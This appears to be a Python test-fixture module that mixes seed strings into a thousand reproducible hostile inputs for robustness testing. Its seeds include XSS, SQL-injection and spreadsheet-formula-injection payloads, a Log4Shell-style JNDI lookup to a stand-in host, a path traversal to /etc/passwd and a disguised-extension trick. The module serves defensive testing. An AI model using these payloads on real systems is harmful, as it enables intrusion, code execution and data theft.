"""A thousand texts that mean harm, or look as if they did."""

import random
from itertools import cycle, islice

SEEDS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<iframe src=javascript:alert(1)></iframe>",
    "[länk](https://ond.example)",
    "![bild](https://ond.example/a.png)",
    "https://ond.example/a",
    "www.ond.example",
    "namn@ond.example",
    "**fet** _kursiv_ `kod` ~~struken~~",
    "# rubrik\n===\n- punkt\n1. ett",
    "    indragen kod",
    ":material/delete: :red[röd] :smile:",
    "$\\frac{1}{2}$ $$x$$",
    "| a | b |\n|---|---|",
    "&lt;b&gt; &amp; &#60;",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    '=HYPERLINK("https://ond.example","klicka")',
    "'; drop table point; --",
    "' or '1'='1",
    "$$; select pg_sleep(9) $$",
    "%s %(name)s {name} {0} %d",
    "${jndi:ldap://ond.example/a}",
    "\u202egnp.exe",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "e\u0301\u0301\u0301\u0301 Z\u0335\u0321\u0341",
    "../../etc/passwd",
    "C:\\windows\\system32",
    "null",
    "NaN",
    "\\",
    "\\\\n\\t",
    "рассылка 名前 اسم",
    "🏳️‍🌈👩‍👩‍👧",
)
"""One text of each kind of harm."""


def hostile_texts(count: int = 1000) -> list[str]:
    """Return different texts, the same in each run: the seeds, mixed, lengthened, and one long."""
    chance = random.Random(2022)
    made = dict.fromkeys(SEEDS)
    made["a" * 9_990 + "<b>=1+1</b>"] = None
    for seed in cycle(SEEDS):
        if len(made) >= count:
            break
        other = chance.choice(SEEDS)
        made[f"{seed}{chance.choice(['', ' ', chr(10)])}{other}{chance.randrange(1000)}"] = None
    return list(islice(made, count))
